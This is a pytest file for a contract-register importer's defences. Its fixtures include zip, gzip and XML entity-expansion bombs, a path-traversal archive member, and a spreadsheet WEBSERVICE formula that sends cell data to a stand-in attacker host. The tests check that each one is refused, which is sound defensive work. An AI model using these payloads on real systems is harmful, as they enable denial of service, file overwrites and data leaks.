"""Files that are dangerous, damaged or too large: one exact sentence each, by `mvi import` and on the page, and the store as it was."""

import gzip
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
import xlsxwriter
from click.testing import CliRunner

from mvi_dashboard.__main__ import main
from mvi_dashboard.importers import archives, workbook
from mvi_dashboard.importers.limits import limit
from mvi_dashboard.language import Language
from mvi_dashboard.store import Store, current_file, list_stores, open_store
from mvi_dashboard.uploads import Desk
from tests.pages.conftest import Visit, shown, visit
from tests.pages.town import town_store

__all__ = ["visit"]

REGISTER = "Organisatie;Contractnummer;Naam contract\nAnderstad;1;Papier\n"
BOMB = (
    '<?xml version="1.0"?><!DOCTYPE TED_EXPORT [<!ENTITY a "{}"><!ENTITY b "{}"><!ENTITY c "{}">]>'
    '<TED_EXPORT xmlns="http://publications.europa.eu/resource/schema/ted/R2.0.9/publication"><FORM_SECTION>&c;'
    "</FORM_SECTION></TED_EXPORT>"
).format("a" * 100, "&a;" * 1000, "&b;" * 1000)
SMALL = {"archive_mb": 1, "archive_files": 3, "workbook_mb": 1, "columns": 250}


def zipped(members: dict[str, bytes | str]) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, member in members.items():
            archive.writestr(name, member)
    return content.getvalue()


def locked(content: bytes) -> bytes:
    """The same archive with the flag that says that its member is encrypted."""
    marked = bytearray(content)
    for start in (marked.index(b"PK\x03\x04") + 6, marked.index(b"PK\x01\x02") + 8):
        marked[start] |= 1
    return bytes(marked)


BAD: dict[str, tuple[bytes, str]] = {
    "bom.zip": (
        zipped({"a.csv": b"0" * 5_000_000}),
        "Het archief bom.zip wordt uitgepakt groter dan 1 MB en is daarom niet gelezen.",
    ),
    "leugen.csv.gz": (
        gzip.compress(b"0" * 5_000_000),
        "Het archief leugen.csv.gz wordt uitgepakt groter dan 1 MB en is daarom niet gelezen.",
    ),
    "bom.xml": (
        BOMB.encode(),
        "bom.xml bevat een documenttype of verwijzingen die gevaarlijk kunnen zijn, en is daarom niet gelezen.",
    ),
    "bom.xlsx": (
        zipped({"[Content_Types].xml": b"0" * 2_000_000, "xl/workbook.xml": b"0"}),
        "Het bestand bom.xlsx is te groot om veilig te lezen: 2 MB, terwijl 1 MB het meeste is.",
    ),
    "pad.zip": (
        zipped({"contracten.csv": REGISTER, "../../kwaad.csv": REGISTER}),
        "Het archief pad.zip bevat een bestand dat buiten de map terecht zou komen: '../../kwaad.csv'. Er is niets gelezen.",
    ),
    "slot.zip": (
        locked(zipped({"contracten.csv": REGISTER})),
        "In het archief slot.zip is 'contracten.csv' met een wachtwoord beveiligd.",
    ),
    "nest.zip": (
        zipped({"binnen.zip": zipped({"contracten.csv": REGISTER})}),
        "In het archief nest.zip zit een ander archief: binnen.zip. Dat lezen we niet.",
    ),
    "breed.csv": (
        ";".join(f"Kolom {n}" for n in range(300)).encode() + b"\n",
        "Het bestand breed.csv heeft 300 kolommen; meer dan 250 lezen we niet.",
    ),
    "leeg.csv": (b"", "Het bestand leeg.csv is leeg."),
    "brief.xlsx": (b"%PDF-1.7\n", "Het bestand brief.xlsx heet een Excel-werkmap, maar is het niet of is beschadigd."),
}  # fmt: skip
"""What each file holds, and the sentence that refuses it, with limits that a test can reach."""


@pytest.fixture
def small_limits(monkeypatch: pytest.MonkeyPatch) -> None:
    """Limits of a megabyte, so that a bomb need not be large to be one."""

    def small(name: str) -> int:
        return SMALL.get(name) or limit(name)

    for module in (archives, workbook):
        monkeypatch.setattr(module, "limit", small)
    monkeypatch.setattr("mvi_dashboard.importers.limits.limit", small)


def folder_of(store: Store) -> Path:
    folder = store.path.parent
    store.close()
    return folder


def state(folder: Path) -> tuple[Path | None, list[Path], bytes]:
    """The current file, all files and the pointer: what a refused file must leave as it was."""
    return current_file(folder), list_stores(folder), (folder / "current").read_bytes()


@pytest.mark.usefixtures("small_limits")
def test_mvi_import_refuses_each_with_its_sentence_and_publishes_nothing(tmp_path: Path) -> None:
    folder = folder_of(town_store(tmp_path))
    before = state(folder)
    good = tmp_path / "goed.csv"
    good.write_text(REGISTER, "utf-8")
    for name, (content, sentence) in BAD.items():
        path = tmp_path / name
        path.write_bytes(content)
        arguments = ["import", str(good), str(path), "--store", str(folder), "--language", "nl"]
        done = CliRunner().invoke(main, arguments)  # a good file beside it is not published either
        assert done.exit_code == 1, name
        assert done.stderr.startswith(sentence), (name, done.stderr)
        assert done.stderr.count("\n") == 1, done.stderr
        assert state(folder) == before, name
    assert not list(tmp_path.parent.glob("kwaad.csv"))


@pytest.mark.usefixtures("small_limits")
def test_the_page_refuses_each_with_its_sentence_and_stays_up(visit: Visit, tmp_path: Path) -> None:
    folder = folder_of(town_store(tmp_path))
    before = state(folder)
    at = visit(folder, "intake")
    for name, (content, _) in BAD.items():
        at.file_uploader[0].upload(name, content, "application/octet-stream")
    at.run()
    assert not at.exception, at.exception
    text = shown(at)
    for name, (_, sentence) in BAD.items():
        assert sentence in text, name
    assert text.count(Language("nl")("page.intake.left_out")) == len(BAD)
    assert at.button(key="rehearse").disabled
    assert state(folder) == before


def test_formulas_are_told_and_never_run(tmp_path: Path) -> None:
    path = tmp_path / "formules.xlsx"
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, ["Organisatie", "Contractnummer", "Naam contract", "Leverancier"])
        sheet.write_row(1, 0, ["Anderstad", "1", "Papier"])
        sheet.write_formula(1, 3, '=WEBSERVICE("http://kwaad.example/"&A2)', None, "")
    folder = tmp_path / "store"
    done = CliRunner().invoke(main, ["import", str(path), "--store", str(folder), "--language", "nl"])
    assert done.exit_code == 0, done.output
    assert Language("nl")("problem.formula_in_cell.advice") in done.output
    store = open_store(folder)
    (row,) = store.rows("select supplier_name from contracts")
    store.close()
    assert not str(row["supplier_name"] or "").startswith("=")


@pytest.mark.parametrize("name", ["register.csv", "register.xlsx", "notices.xml", "release.json", "register.zip"])
def test_two_gigabytes_are_refused_with_a_sentence(name: str, tmp_path: Path) -> None:
    path = tmp_path / name
    with path.open("wb") as file:
        file.truncate(2 << 30)  # takes no room on the disk
    done = CliRunner().invoke(main, ["import", str(path), "--store", str(tmp_path / "store"), "--language", "nl"])
    assert done.exit_code == 1
    assert name in done.stderr
    assert done.stderr.count("\n") == 1, done.stderr
    assert not (tmp_path / "store" / "current").exists()


def test_files_handed_in_above_the_limit_are_told_and_the_others_stay(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("mvi_dashboard.uploads.limit", {"upload_mb": 1}.__getitem__)
    desk = Desk([("klein.csv", REGISTER.encode()), ("groot.csv", b"0" * 1_000_000)])
    small, large = desk.uploads
    assert small.fault is None
    assert large.fault is not None
    assert (large.fault.rule, large.fault.parameters["limit"]) == ("upload_too_large", 1)
    assert not large.path.exists()
    desk.close()


ARCHIVE: Callable[[], bytes] = lambda: zipped(  # noqa: E731 - made when it is asked for
    {"contracten.csv": REGISTER, "map/contracten.csv": REGISTER.replace(";1;", ";2;"), "lees mij.md": "hallo"}
)


def test_a_zip_on_the_page_is_read_file_by_file_and_published(visit: Visit, tmp_path: Path) -> None:
    folder = tmp_path / "store"
    at = visit(folder, "intake")
    at.file_uploader[0].upload("levering.zip", ARCHIVE(), "application/zip")
    at.run()
    text = shown(at)
    assert "contracten.csv" in text
    assert "contracten (2).csv" in text
    assert text.count(Language("nl")("page.intake.left_out")) == 1  # what is no register
    for key in ("rehearse", "publish"):
        at.button(key=key).click().run()
        assert not at.exception, at.exception
    assert "2 rijen gelezen: 2 aanvaard en 0 afgewezen" in shown(at)
    store = open_store(folder)
    assert [row["contract_id"] for row in store.rows("select contract_id from contracts order by 1")] == ["1", "2"]
    store.close()


def test_an_empty_store_begins_with_the_demo_at_one_click(
    visit: Visit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    demo = tmp_path / "demo"
    demo.mkdir()
    (demo / "contracts.csv").write_text(REGISTER.replace("Anderstad", "Kleinstad (fictief)"), "utf-8")
    monkeypatch.setattr("mvi_dashboard.rehearsal.DEMO_CONTRACTS", demo)  # a town of one contract is quicker
    folder = tmp_path / "store"
    at = visit(folder, "intake")
    assert current_file(folder) is None
    at.button(key="begin_demo").click().run()
    assert not at.exception, at.exception
    assert current_file(folder) is not None
    assert "Kleinstad" in shown(at)
